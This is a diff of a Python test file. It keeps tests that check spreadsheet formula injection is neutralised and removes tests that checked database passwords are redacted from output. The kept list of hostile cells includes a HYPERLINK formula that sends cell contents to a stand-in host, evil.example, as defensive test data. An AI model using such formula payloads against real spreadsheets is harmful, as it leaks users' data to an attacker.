@@ -1,4 +1,4 @@
-"""Cells safe to open in a spreadsheet (geo.spreadsheet) and credentials never printed (store)."""
+"""Cells safe to open in a spreadsheet (geo.spreadsheet)."""
 
 from __future__ import annotations
 
@@ -7,11 +7,9 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from geo.errors import StoreError
 from geo.incidents import import_incidents
 from geo.rejects import rejects_csv, write_rejects
 from geo.spreadsheet import neutralise_cell, neutralise_frame
-from store import open_store, redact_url, scrub_secrets, url_secrets
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1;"click")',
@@ -64,34 +62,3 @@ def test_rejects_files_hold_no_live_formula(tmp_path: Path) -> None:
     for cell in table.to_numpy().ravel():
         assert not str(cell).lstrip().startswith(("=", "+", "-", "@")), cell
     assert written.read_bytes() == rejects_csv(result)
-
-
-@pytest.mark.parametrize(
-    "url",
-    [
-        "postgresql://u:SECRET@127.0.0.1:1/db",
-        "postgresql://127.0.0.1:1/db?user=u&password=SECRET",
-        "postgresql://127.0.0.1:1/db?PASSWORD=SECRET&sslmode=disable",
-        "host=127.0.0.1 port=1 user=u password=SECRET dbname=db",
-        "host=127.0.0.1 password='SECRET' dbname=db",
-        "postgresql://u:SECRET@[not-a-host",
-        "sqlite:///tmp/x.sqlite?password=SECRET",
-        "mysql://u:SECRET@h/db",
-    ],
-)
-def test_no_password_form_prints(url: str, capsys: pytest.CaptureFixture[str]) -> None:
-    assert "SECRET" not in redact_url(url)
-    assert "SECRET" in url_secrets(url)
-    assert "SECRET" not in scrub_secrets(f"could not connect: {url} (password SECRET)", url)
-    import cli
-
-    code = cli.main(["stats", "--db", url])
-    out, err = capsys.readouterr()
-    assert code == 2 and "SECRET" not in out + err and "Traceback" not in err
-    assert err.startswith("error: ") and err.count("\n") == 1
-
-
-def test_store_errors_name_the_redacted_url() -> None:
-    with pytest.raises(StoreError) as caught:
-        open_store("sqlite:///tmp/x.sqlite?password=SECRET")
-    assert "SECRET" not in str(caught.value) and "***" in str(caught.value)
